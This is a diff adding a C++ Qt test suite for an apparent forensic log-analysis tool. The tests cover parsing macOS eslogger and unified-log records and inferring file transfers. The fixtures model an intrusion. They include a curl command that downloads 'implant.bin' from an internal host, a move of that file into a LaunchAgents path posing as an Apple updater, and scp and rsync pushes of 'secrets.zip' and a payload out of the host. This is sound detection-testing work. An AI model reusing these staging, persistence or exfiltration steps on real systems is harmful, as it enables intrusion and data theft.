@@ -1,0 +1,196 @@
+// macOS: eslogger NDJSON (exec / fork / create / rename / mount / openssh_login, the kind read from
+// the event key, a truncated record rejected with its line, uids named from ssh logins) and
+// `log show --style ndjson` (sshd's messages read as OpenSSH's, local time with offset), their
+// detection beside JSON lines, the canonical rows, and the transfers the existing rules find on a
+// macOS host: an sftp push into it, a curl pull from an internal host, scp and rsync pushes out.
+
+#include "TestSupport.h"
+
+#include "core/FileSource.h"
+#include "core/FormatDetector.h"
+#include "core/ImportEngine.h"
+#include "inference/InferenceEngine.h"
+#include "inference/TransferQuery.h"
+#include "linux/SshdMessage.h"
+#include "macos/MacLogParsers.h"
+#include "store/CaseStore.h"
+#include "store/Sqlite.h"
+
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace tt;
+using namespace tt::test;
+
+namespace {
+template<typename P> bool parseFixture(P &p, const char *name, CollectingSink &sink)
+{
+    ParseContext ctx;
+    ctx.defaultHost = "MAC01";
+    p.setContext(ctx);
+    const std::string text = readFixture(QStringLiteral("macos/") + QLatin1String(name));
+    MemorySource src(text);
+    return p.parse(src, sink);
+}
+
+std::string describe(const inference::TransferRow &r)
+{
+    return r.source + " -> " + r.destination + " | " + r.account + " | " + r.path + " | " + r.srcPath + " | " + r.method
+        + " | " + r.direction;
+}
+} // namespace
+
+class TstMacos : public QObject {
+    Q_OBJECT
+private:
+    QTemporaryDir m_dir;
+    std::unique_ptr<store::CaseStore> m_case;
+
+    std::string text(const std::string &sql)
+    {
+        auto st = m_case->db().prepare(sql.c_str());
+        return st.step() && !st.isNull(0) ? st.text(0) : std::string("<null>");
+    }
+
+private slots:
+    void detection()
+    {
+        const std::string es = readFixture(QStringLiteral("macos/mac01-eslogger.ndjson"));
+        const std::string ul = readFixture(QStringLiteral("macos/mac01-unifiedlog.ndjson"));
+        QCOMPARE(detectFormat(es.data(), es.size()), Format::Eslogger);
+        QCOMPARE(detectFormat(ul.data(), ul.size()), Format::UnifiedLog);
+        // Windows JSON lines stay JSON lines.
+        const std::string nx = readFixture(QStringLiteral("json/nxlog_mordor_like.json"));
+        QCOMPARE(detectFormat(nx.data(), nx.size()), Format::JsonLines);
+        QCOMPARE(formatFromName("eslogger"), Format::Eslogger);
+        QCOMPARE(formatFromName("unifiedlog"), Format::UnifiedLog);
+    }
+
+    void eslogger()
+    {
+        EsloggerParser p;
+        CollectingSink sink;
+        QVERIFY(parseFixture(p, "mac01-eslogger.ndjson", sink));
+        QCOMPARE(sink.rejects.size(), size_t(1));
+        QCOMPARE(sink.rejects[0].position, int64_t(7));
+        QCOMPARE(sink.events.size(), size_t(11));
+        const RawEvent &login = sink.events[0];
+        QCOMPARE(login.channel, std::string("macos:es"));
+        QCOMPARE(login.eventId, 96);
+        QCOMPARE(login.recordId, int64_t(1001));
+        QCOMPARE(fld(login, "event"), std::string("openssh_login"));
+        QCOMPARE(fld(login, "user"), std::string("alice"));
+        QCOMPARE(fld(login, "ip"), std::string("10.30.0.20"));
+        QCOMPARE(login.originalFormat, std::string("json"));
+        const RawEvent &curl = sink.events[4];
+        QCOMPARE(fld(curl, "event"), std::string("exec"));
+        QCOMPARE(fld(curl, "target_image"), std::string("/usr/bin/curl"));
+        QCOMPARE(fld(curl, "target_pid"), std::string("901"));
+        QCOMPARE(fld(curl, "target_ppid"), std::string("900"));
+        QCOMPARE(fld(curl, "cmdline"), std::string("curl -o /tmp/implant.bin http://10.30.0.5/files/implant.bin"));
+        QCOMPARE(fld(curl, "cwd"), std::string("/Users/alice"));
+        QCOMPARE(fld(curl, "target_user"), std::string("alice")); // uid 501 named by the ssh login
+        QCOMPARE(fld(sink.events[2], "path"), std::string("/Users/alice/Downloads/stage.pkg")); // new_path
+        QCOMPARE(fld(sink.events[5], "path"), std::string("/tmp/implant.bin")); // existing_file
+        const RawEvent &mount = sink.events[8];
+        QCOMPARE(fld(mount, "fstype"), std::string("smbfs"));
+        QCOMPARE(fld(mount, "mount_on"), std::string("/Volumes/share"));
+        QCOMPARE(fld(mount, "mount_from"), std::string("//alice@fileserver.corp.local/share"));
+        QCOMPARE(fld(sink.events[9], "cmdline"), std::string("echo \"<b>bold</b>\x1b[31m red\"")); // kept as written
+        const RawEvent &mv = sink.events[10];
+        QCOMPARE(fld(mv, "source_path"), std::string("/tmp/implant.bin"));
+        QCOMPARE(fld(mv, "path"), std::string("/Users/alice/Library/LaunchAgents/com.apple.updater"));
+    }
+
+    void unifiedLog()
+    {
+        UnifiedLogParser p;
+        CollectingSink sink;
+        QVERIFY(parseFixture(p, "mac01-unifiedlog.ndjson", sink));
+        QCOMPARE(sink.rejects.size(), size_t(1));
+        QCOMPARE(sink.rejects[0].position, int64_t(5));
+        QCOMPARE(sink.events.size(), size_t(4));
+        const RawEvent &acc = sink.events[1];
+        QCOMPARE(acc.channel, std::string("linux:sshd"));
+        QCOMPARE(acc.eventId, int(sshd::kAccepted));
+        QCOMPARE(fld(acc, "user"), std::string("alice"));
+        QCOMPARE(fld(acc, "ip"), std::string("10.30.0.20"));
+        QCOMPARE(acc.timeUs, int64_t(1773223200090000)); // 11:00:00.09 +01:00 = 10:00:00.09 UTC
+        QCOMPARE(sink.events[2].eventId, int(sshd::kSessionStart)); // sshd-session
+        QCOMPARE(sink.events[3].channel, std::string("macos:unifiedlog"));
+        QCOMPARE(sys(sink.events[3], "subsystem"), std::string("com.apple.sharing"));
+    }
+
+    void unifiedLogStyleJson()
+    {
+        const std::string doc = readFixture(QStringLiteral("macos/mac02-unifiedlog-style-json.json"));
+        QCOMPARE(detectFormat(doc.data(), doc.size()), Format::UnifiedLog);
+        UnifiedLogParser p;
+        CollectingSink sink;
+        QVERIFY(parseFixture(p, "mac02-unifiedlog-style-json.json", sink));
+        QCOMPARE(sink.events.size(), size_t(2));
+        QCOMPARE(sink.rejects.size(), size_t(1));
+        QCOMPARE(sink.rejects[0].position, int64_t(3)); // the third entry of the array
+        QCOMPARE(sink.events[0].channel, std::string("linux:sshd"));
+        QCOMPARE(sink.events[0].eventId, int(sshd::kAccepted));
+        QCOMPARE(fld(sink.events[0], "user"), std::string("bob"));
+        QCOMPARE(sink.events[0].timeUs, int64_t(1773226800000000)); // 03:00 -08:00 = 11:00 UTC
+        QCOMPARE(sink.events[1].eventId, int(sshd::kDisconnect));
+        QVERIFY(sink.events[0].original.find("\"traceID\":1234") != std::string::npos); // minified entry kept
+    }
+
+    void transfers()
+    {
+        QVERIFY(m_dir.isValid());
+        m_case = store::CaseStore::open(
+            m_dir.filePath(QStringLiteral("mac.ttcase")).toStdString(), store::CaseStore::Access::Create);
+        std::vector<std::string> inputs;
+        for (const char *f : {"mac01-eslogger.ndjson", "mac01-unifiedlog.ndjson"})
+            inputs.push_back(QString(fixturesDir() + QStringLiteral("/macos/") + QLatin1String(f)).toStdString());
+        ImportEngine::Options opts;
+        opts.defaultHost = "MAC01";
+        ImportEngine engine(*m_case, opts);
+        const ImportSummary s = engine.run(inputs);
+        QCOMPARE(s.count(FileReport::Status::Imported), size_t(2));
+        QCOMPARE(s.rejected(), int64_t(2));
+        inference::InferenceEngine(m_case->db()).run();
+
+        QCOMPARE(
+            text("SELECT image || '|' || command_line || '|' || pid || '|' || parent_pid || '|' || a.domain || "
+                 "'\\' || a.name FROM processes p JOIN accounts a ON a.id=p.account_id WHERE image='/usr/bin/curl'"),
+            std::string(
+                "/usr/bin/curl|curl -o /tmp/implant.bin http://10.30.0.5/files/implant.bin|901|900|MAC01\\alice"));
+        QCOMPARE(text("SELECT group_concat(source_ip || ':' || logon_process, ' ') FROM logon_sessions WHERE "
+                      "origin='sshd'"),
+            std::string("10.30.0.20:eslogger 10.30.0.20:sshd"));
+        QCOMPARE(text("SELECT group_concat(path, '|') FROM (SELECT path FROM file_events WHERE kind='create' ORDER BY "
+                      "ts)"),
+            std::string("/Users/alice/Downloads/stage.pkg|/tmp/implant.bin|/Users/alice/Library/LaunchAgents/"
+                        "com.apple.updater"));
+
+        const auto rows = inference::listTransfers(m_case->db(), {});
+        std::string all;
+        for (const auto &r : rows)
+            all += r.file + ": " + describe(r) + "\n";
+        auto find = [&](const std::string &file) -> std::string {
+            for (const auto &r : rows)
+                if (r.file == file)
+                    return describe(r);
+            return "<none>";
+        };
+        QVERIFY2(rows.size() == 4, all.c_str());
+        QCOMPARE(find("stage.pkg"),
+            std::string("10.30.0.20 -> MAC01 | MAC01\\alice | /Users/alice/Downloads/stage.pkg |  | sftp | push"));
+        QCOMPARE(
+            find("implant.bin"), std::string("10.30.0.5 -> MAC01 | MAC01\\alice | /tmp/implant.bin |  | http | pull"));
+        QCOMPARE(find("secrets.zip"),
+            std::string("MAC01 -> 10.30.0.21 | MAC01\\alice | /tmp/secrets.zip | /Users/alice/Documents/secrets.zip | "
+                        "scp | push"));
+        QCOMPARE(find("payload.tar.gz"),
+            std::string("MAC01 -> 10.30.0.22 | MAC01\\alice | /opt/payload.tar.gz | /Users/alice/payload.tar.gz | "
+                        "rsync | push"));
+    }
+};
+
+QTEST_GUILESS_MAIN(TstMacos)
+#include "tst_macos.moc"
